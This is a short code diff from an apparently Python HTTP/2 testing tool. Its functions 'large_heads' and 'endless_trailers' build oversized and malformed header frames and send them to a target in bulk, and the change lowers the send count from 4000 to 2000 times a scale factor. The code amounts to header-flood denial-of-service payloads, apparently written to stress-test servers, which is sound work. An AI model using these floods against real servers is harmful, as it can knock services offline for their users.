@@ -106,7 +106,7 @@ async def large_heads(target: Target, scale: float) -> str:
     many = head(METHOD + "GetWebhook") + b"\x00\x01a\x00" * 1800
     packed = head(METHOD + "GetWebhook") + b"\x00\x01a\xff\x81\x76" + b"\x1f" * 15_221
     groups = (frame(HEADERS, END_HEADERS | END_STREAM, n, many if n % 4 == 1 else packed) for n in count(1, 2))
-    return await _pour(target, groups, round(4000 * scale))
+    return await _pour(target, groups, round(2000 * scale))
 
 
 async def endless_trailers(target: Target, scale: float) -> str:
@@ -116,7 +116,7 @@ async def endless_trailers(target: Target, scale: float) -> str:
     groups = (
         frame(HEADERS, END_HEADERS, n, block) + frame(HEADERS, END_HEADERS | n // 2 % 2, n, fields) for n in count(1, 2)
     )
-    return await _pour(target, groups, round(4000 * scale))
+    return await _pour(target, groups, round(2000 * scale))
 
 
 async def _pour_each(target: Target, first: bytes, frames: tuple[bytes, ...], times: int) -> str:
